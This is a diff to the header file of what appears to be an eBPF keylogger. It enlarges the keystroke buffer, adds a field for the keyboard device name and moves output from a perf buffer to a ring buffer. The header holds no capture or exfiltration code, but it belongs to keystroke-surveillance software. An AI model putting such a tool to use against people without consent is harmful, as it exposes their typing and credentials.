@@ -1,7 +1,9 @@
 #ifndef KEYLOGGER_H
 #define KEYLOGGER_H
 
-#define BUFFER_SIZE 32
+#define BUFFER_SIZE 32       // default size of the buffered message
+#define MAX_BUFFER_SIZE 128  // max size (buffer_size)
+#define DEVICE_NAME_LEN 32
 
 // Key event values
 // @ https://github.com/torvalds/linux/blob/v6.8/include/uapi/linux/input-event-codes.h
@@ -19,9 +21,10 @@
 #define KEY_RELEASE   0
 #define KEY_PRESS     1
 
-// the output data to send to the perf buffer
+// the output data to send to the ring buffer
 struct output_data {
-    char message[BUFFER_SIZE + 1];  // needs to add 1 byte for the null terminator (*)
+    char message[MAX_BUFFER_SIZE + 1];  // needs to add 1 byte for the null terminator (*)
+    char device[DEVICE_NAME_LEN];       // name of the keyboard typed on
 };
 
 #endif // KEYLOGGER_H
@@ -29,7 +32,7 @@ struct output_data {
 // (*): It seems that if I don't terminate explicitly the `output_data` buffer ('\0'),
 //      the program continues reading the buffer past its size in userspace
 //      which triggers an index OOB error (as the null terminator is never met).
-//      So while keeping my circular buffer 32 bytes is ok, I need to make
-//      the `output_data` buffer 33 bytes to account for the 1-byte null terminator.
-//      This is the only option I found to print 32 full bytes of chars
-//      in the perf buffer while avoiding an error.
+//      So while keeping my circular buffer MAX_BUFFER_SIZE bytes is ok, I need to make
+//      the `output_data` message MAX_BUFFER_SIZE + 1 bytes to account for the 1-byte
+//      null terminator. This is the only option I found to print a full buffer of chars
+//      (buffer_size, up to MAX_BUFFER_SIZE) in the ring buffer while avoiding an error.